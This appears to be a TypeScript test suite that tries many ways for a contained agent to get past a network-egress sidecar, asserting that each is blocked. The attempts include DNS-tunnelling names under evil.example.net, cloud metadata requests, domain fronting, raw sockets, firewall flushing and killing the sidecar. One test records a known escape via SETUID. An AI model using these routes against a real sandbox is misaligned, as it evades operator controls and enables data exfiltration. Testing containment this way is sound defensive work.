/**
 * The ways around the sidecar, one test each, tried in a real pod network against an internet that would answer. Each
 * name is `the way: what stops it`; the table in docs/threat-model.md is made of these names.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { eventually } from '../e2e/agent.ts';
import { type FencedPod, install, type Sighting, stageFencedPod } from './fenced-pod.ts';
import { type Actor, AGENT, OPERATOR, POD, ROOT_AGENT, SIDECAR } from './namespace.ts';

const INTERNET = '203.0.113.10';
const INTERNET6 = '2001:db8:10::10';
const METADATA = '169.254.169.254';
const WITHOUT_SETUID = { uid: 0, capabilities: 'net_raw,kill,dac_override' };

const NOTHING: readonly Sighting[] = [];

void test('the ways around the sidecar', async (t) => {
  const found = await stageFencedPod(t);
  if (found === null) return;
  const pod: FencedPod = found;
  // Without the fence every one of these arrives, so the internet of this lab sees what leaves.
  for (const attempt of [
    ['tcp', INTERNET, '81'],
    ['udp', INTERNET6, '443'],
    ['raw-ping', INTERNET],
    ['frame', INTERNET, '443'],
  ]) {
    const [, seen] = await pod.seenDuring(() => pod.attempt(ROOT_AGENT, ...attempt));
    assert.notDeepEqual(seen, NOTHING, attempt.join(' '));
  }
  await install(pod);
  let sidecar = await pod.startSidecar();

  /** The attempt, what it says, and that not one packet of it was seen outside. */
  const held = async (attempt: Parameters<FencedPod['attempt']>, says: RegExp) => {
    const [result, seen] = await pod.seenDuring(() => pod.attempt(...attempt));
    assert.match(result, says, attempt.join(' '));
    assert.deepEqual(seen, NOTHING, attempt.join(' '));
  };
  const curl = async (...args: string[]) => {
    const command = ['curl', '-sS', '-m', '10', '-w', ' %{http_code}', ...args];
    const { stdout, stderr } = await pod.lab.inPod(AGENT, command);
    return `${stdout}${stderr}`;
  };
  const row = (name: string, body: () => Promise<void>) => t.test(name, body);

  await row(
    'A direct connection to a port that is not captured, IPv4 and IPv6: reset by the kernel',
    async () => {
      for (const port of ['22', '81', '5000', '8443']) {
        await held([AGENT, 'tcp', INTERNET, port], /^ECONNREFUSED$/);
        await held([AGENT, 'tcp', INTERNET6, port], /^ECONNREFUSED$/);
      }
    },
  );

  await row(
    'A connection to any address on a captured port: lands at the sidecar, the address is never dialled',
    async () => {
      const dial = async (actor: Actor, address: string) => {
        const [result, seen] = await pod.seenDuring(() => pod.attempt(actor, 'tcp', address, '80'));
        // The sidecar asks its own name server for the name in the request, and nobody else for anything.
        assert.match(result, /^HTTP\/1\.1 502/);
        assert.deepEqual(
          seen.filter(({ event, port }) => event === 'packet' && port !== 53),
          NOTHING,
        );
      };
      for (const actor of [AGENT, ROOT_AGENT]) {
        for (const address of [INTERNET, INTERNET6, METADATA]) await dial(actor, address);
      }
    },
  );

  await row(
    'A forged Host header or server name on the connection to an own machine: the named place is called instead',
    async () => {
      const [answer, seen] = await pod.seenDuring(() =>
        curl('--connect-to', 'tool.example:80:192.0.2.1:80', 'http://tool.example/'),
      );
      assert.match(answer, /from the internet 200/);
      const dialled = seen.filter(({ event }) => event === 'connection');
      assert.deepEqual(
        dialled.map(({ to, port }) => [to, port]),
        [[`::ffff:${INTERNET}`, 80]],
      );
    },
  );

  await row('QUIC and other UDP: rejected by the kernel, clients fall back to TCP', async () => {
    for (const address of [INTERNET, INTERNET6]) {
      for (const port of ['443', '4433', '123']) {
        await held([AGENT, 'udp', address, port], /^(EPERM|EHOSTUNREACH|EACCES)$/);
      }
    }
    await held([ROOT_AGENT, 'udp', INTERNET, '443'], /^(EPERM|EHOSTUNREACH|EACCES)$/);
  });

  await row(
    'DNS to any server, UDP and TCP: answered by the sidecar, the question never leaves',
    async () => {
      for (const server of ['198.51.100.53', INTERNET, INTERNET6]) {
        for (const transport of ['+notcp', '+tcp']) {
          const dig = [
            'dig',
            '+short',
            '+time=2',
            '+tries=1',
            transport,
            `@${server}`,
            'tool.example',
          ];
          const [{ stdout }, seen] = await pod.seenDuring(() => pod.lab.inPod(AGENT, dig));
          assert.equal(stdout, '198.18.0.1\n');
          assert.deepEqual(seen, NOTHING);
        }
      }
    },
  );

  await row(
    'Data in the names of DNS questions: nobody outside is ever asked, and the signs are logged',
    async () => {
      const names = Array.from(
        { length: 60 },
        (_, at) => `${`4f70656e${at}a9c3`.repeat(4)}.evil.example.net`,
      );
      const questions = names.flatMap((name) => [name, 'TXT']);
      const [, seen] = await pod.seenDuring(() =>
        pod.lab.inPod(AGENT, ['dig', '+short', '+time=2', '+tries=1', ...questions]),
      );
      assert.deepEqual(seen, NOTHING);
      assert.ok(pod.log.some((line) => line.includes('"dns.tunnelling_suspected"')));
    },
  );

  await row('Ping, as a user and with a raw socket as root: rejected by the kernel', async () => {
    const refused = /^(EPERM|EHOSTUNREACH|EACCES|EPROTONOSUPPORT)$/;
    await held([AGENT, 'ping', INTERNET], refused);
    await held([AGENT, 'ping', INTERNET6], refused);
    await held([ROOT_AGENT, 'raw-ping', INTERNET], refused);
    await held([ROOT_AGENT, 'raw-ping', INTERNET6], refused);
  });

  await row('SCTP, GRE and other protocols from a raw socket: rejected by the kernel', async () => {
    for (const attempt of ['sctp', 'gre']) {
      await held([ROOT_AGENT, attempt, INTERNET, '443'], /^(EPERM|EHOSTUNREACH|EACCES)$/);
      await held([AGENT, attempt, INTERNET, '443'], /^EPERM$/);
    }
  });

  await row('TCP segments of no connection from a raw socket: dropped as invalid', async () => {
    await held([ROOT_AGENT, 'raw-tcp-ack', INTERNET, '443'], /^(EPERM|sent)$/);
    await held([ROOT_AGENT, 'raw-tcp-ack', INTERNET, '81'], /^(EPERM|sent)$/);
  });

  await row(
    'Whole Ethernet frames from a packet socket of a root agent with NET_RAW: dropped at the device',
    async () => {
      await held([ROOT_AGENT, 'frame', INTERNET, '443'], /^(sent|ENOBUFS|EPERM)$/);
      await held([AGENT, 'frame', INTERNET, '443'], /^EPERM$/);
    },
  );

  await row('A source port of the fence’s own trials: is treated like any other', async () => {
    await held([AGENT, 'tcp-from-15061', INTERNET, '81'], /^ECONNREFUSED$/);
    await held([SIDECAR, 'tcp-from-15061', INTERNET, '81'], /^ECONNREFUSED$/);
  });

  await row(
    'Socket options (mark, device, transparent, source route): change nothing or are not permitted',
    async () => {
      await held([ROOT_AGENT, 'marked', INTERNET, '81'], /^(ECONNREFUSED|EPERM)$/);
      await held([ROOT_AGENT, 'bound-to-device', INTERNET, '81'], /^ECONNREFUSED$/);
      await held(
        [ROOT_AGENT, 'bound-to-loopback', INTERNET, '443'],
        /^(EPERM|EHOSTUNREACH|EACCES|ENETUNREACH|timed out)$/,
      );
      await held([ROOT_AGENT, 'transparent', INTERNET, '81'], /^(ECONNREFUSED|EPERM)$/);
      await held(
        [ROOT_AGENT, 'source-routed', INTERNET, '81'],
        /^(ECONNREFUSED|EINVAL|EPERM|ENETUNREACH|EHOSTUNREACH|timed out)$/,
      );
    },
  );

  await row(
    'A user namespace in which the agent is the sidecar’s user: the kernel’s own user id counts',
    async () => {
      const mapped = ['unshare', '--user', '--map-user=64777', 'python3', '-c', DIAL];
      const [{ stdout, stderr }, seen] = await pod.seenDuring(() => pod.lab.inPod(AGENT, mapped));
      assert.match(stdout + stderr, /refused|Operation not permitted|No space left/i);
      assert.deepEqual(seen, NOTHING);
    },
  );

  await row('A network namespace of its own: has no device to leave by', async () => {
    const apart = ['unshare', '--user', '--map-root-user', '--net', 'python3', '-c', DIAL];
    const [{ code }, seen] = await pod.seenDuring(() => pod.lab.inPod(AGENT, apart));
    assert.notEqual(code, 0);
    assert.deepEqual(seen, NOTHING);
  });

  await row(
    'Changing the rules as root with the default capabilities: not permitted without NET_ADMIN',
    async () => {
      for (const command of [
        ['nft', 'flush', 'ruleset'],
        ['nft', 'delete', 'table', 'inet', 'egret'],
      ]) {
        assert.notEqual((await pod.lab.inPod(ROOT_AGENT, command)).code, 0);
      }
      await held([ROOT_AGENT, 'tcp', INTERNET, '81'], /^ECONNREFUSED$/);
    },
  );

  await row(
    'Becoming the sidecar’s user: not permitted without SETUID, which the agent must not have',
    async () => {
      await held([WITHOUT_SETUID, 'become-sidecar', INTERNET, '81'], /^EPERM$/);
      await held([AGENT, 'become-sidecar', INTERNET, '81'], /^EPERM$/);
    },
  );

  await row(
    'KNOWN LIMIT, root with SETUID becomes the sidecar’s user: gets out, so admission must refuse SETUID and the user id',
    async () => {
      const [result, seen] = await pod.seenDuring(() =>
        pod.attempt(ROOT_AGENT, 'become-sidecar', INTERNET, '81'),
      );
      assert.match(result, /^HTTP\/1\.1 200/);
      assert.ok(seen.length > 0);
    },
  );

  await row(
    'Reading or tracing the sidecar’s memory as root with the default capabilities: not permitted without SYS_PTRACE',
    async () => {
      const pid = String(sidecar.pid);
      for (const attempt of ['trace', 'read-memory']) {
        const result = await pod.attempt(ROOT_AGENT, attempt, pid);
        assert.match(result, /not permitted|EACCES|EPERM|ESRCH/i);
      }
    },
  );

  await row(
    'The metadata service by address, by Host, by name and through the proxy: never dialled',
    async () => {
      const proxy = `http://127.0.0.1:${sidecar.proxyPort}`;
      const asks = [
        [`http://${METADATA}/latest/meta-data/`],
        ['-H', `Host: ${METADATA}`, `http://${INTERNET}/latest/meta-data/`],
        ['http://metadata.example/latest/meta-data/'],
        ['http://mixed.example/latest/meta-data/'],
        ['-x', proxy, `http://${METADATA}/`],
        ['-x', proxy, 'http://metadata.google.internal/'],
        ['-x', proxy, 'http://[::ffff:169.254.169.254]/'],
        ['-x', proxy, 'http://[fd00:ec2::254]/'],
      ];
      for (const ask of asks) {
        const [answer, seen] = await pod.seenDuring(() => curl(...ask));
        assert.match(
          answer,
          /(upstream\.address_denied|call\.bad_authority|upstream\.unresolved)[\s\S]* (403|400|502)/,
          ask.join(' '),
        );
        assert.ok(
          seen.every(({ port }) => port === undefined || port === 53),
          ask.join(' '),
        );
      }
    },
  );

  await row(
    'A name that moves to a private address after it was checked: each answer is checked, the checked address is dialled',
    async () => {
      assert.match(await curl('http://rebind.example/'), /from the internet 200/);
      await new Promise((resolve) => setTimeout(resolve, 1100));
      const [answer, seen] = await pod.seenDuring(() => curl('http://rebind.example/'));
      assert.match(answer, /upstream\.address_denied[\s\S]* 403|from the internet 200/);
      assert.ok(seen.every(({ to }) => to === undefined || !to.startsWith('127.')));
      assert.match(await curl('http://private.example/'), /upstream\.address_denied/);
    },
  );

  await row('Domain fronting, another Host inside TLS than the server name: refused', async () => {
    const trusted = ['--cacert', `${pod.directory}/trust/ca.crt`];
    const answer = await curl(...trusted, '-H', 'Host: evil.example', 'https://tool.example/');
    assert.match(answer, /call\.bad_authority/);
  });

  await row(
    'TLS without a server name, and what is no TLS or HTTP on a captured port: refused',
    async () => {
      await held([AGENT, 'tcp', INTERNET, '443'], /^HTTP\/1\.1 (400|403|502)/);
      const [answer, seen] = await pod.seenDuring(() => curl('-k', `https://${INTERNET}/`));
      assert.match(answer, /alert|SSL|TLS/i);
      assert.deepEqual(seen, NOTHING);
    },
  );

  await row(
    'Answers on a port that was not opened to callers from outside: never leave',
    async () => {
      const serve = (port: number) =>
        pod.lab.startInPod(AGENT, [
          'python3',
          '-m',
          'http.server',
          '--bind',
          '0.0.0.0',
          String(port),
        ]);
      serve(7000);
      serve(7001);
      const call = (port: number) =>
        pod.lab.outside([
          'curl',
          '-sS',
          '-m',
          '2',
          '-o',
          '/dev/null',
          '-w',
          '%{http_code}',
          `http://${POD.ipv4}:${port}/`,
        ]);
      await eventually(async () => (await call(7000)).stdout === '200');
      const [{ code }, seen] = await pod.seenDuring(() => call(7001));
      assert.notEqual(code, 0);
      assert.deepEqual(seen, NOTHING);
    },
  );

  await row('Writing to the admin listener: it only reads', async () => {
    assert.match(await curl('-X', 'POST', 'http://127.0.0.1:15090/status'), / 405$/);
  });

  await row(
    'The fence taken away under the running sidecar: not ready until it stands again',
    async () => {
      assert.match(await pod.admin('/readyz'), / 200$/);
      const removal = await pod.redirect(OPERATOR, 'remove', '--open-the-fence');
      assert.equal(removal.code, 0, removal.stderr);
      await eventually(async () => /fence\.open[\s\S]* 503$/.test(await pod.admin('/readyz')));
      await install(pod);
      await eventually(async () => / 200$/.test(await pod.admin('/readyz')));
    },
  );

  await row(
    'Killing the sidecar: not permitted to another user, and when it is dead nothing leaves',
    async () => {
      const kill = ['kill', '-9', String(sidecar.pid)];
      assert.notEqual((await pod.lab.inPod(AGENT, kill)).code, 0);
      await sidecar.kill();
      await held([AGENT, 'tcp', INTERNET, '80'], /^ECONNREFUSED$/);
      await held([AGENT, 'tcp', INTERNET, '81'], /^ECONNREFUSED$/);
      await held([AGENT, 'udp', INTERNET, '53'], /^ECONNREFUSED$/);
      await held([AGENT, 'udp', INTERNET, '443'], /^(EPERM|EHOSTUNREACH|EACCES)$/);
    },
  );

  await row(
    'Listening in the place of a dead sidecar: catches only the agent’s own connections',
    async () => {
      const squatter = pod.lab.startInPod(AGENT, [
        'python3',
        '-m',
        'http.server',
        '--bind',
        '127.0.0.1',
        '15080',
      ]);
      await eventually(async () =>
        (await pod.attempt(AGENT, 'tcp', '127.0.0.1', '15080')).startsWith('HTTP'),
      );
      await held([AGENT, 'tcp', INTERNET, '80'], /^HTTP\/1\.0/);
      squatter.kill('SIGKILL');
      await new Promise((resolve) => squatter.once('exit', resolve));
      sidecar = await pod.startSidecar();
    },
  );

  await row('A sidecar without a policy: takes no call', async () => {
    await sidecar.kill();
    await pod.lab.inPod(OPERATOR, ['rm', '-rf', `${pod.directory}/bundles`]);
    sidecar = await pod.startSidecar();
    const [answer, seen] = await pod.seenDuring(() => curl('http://tool.example/'));
    assert.match(answer, /bundle\.missing[\s\S]* 503/);
    assert.deepEqual(seen, NOTHING);
  });
});

const DIAL = `import socket; socket.create_connection(('${INTERNET}', 81), 3)`;
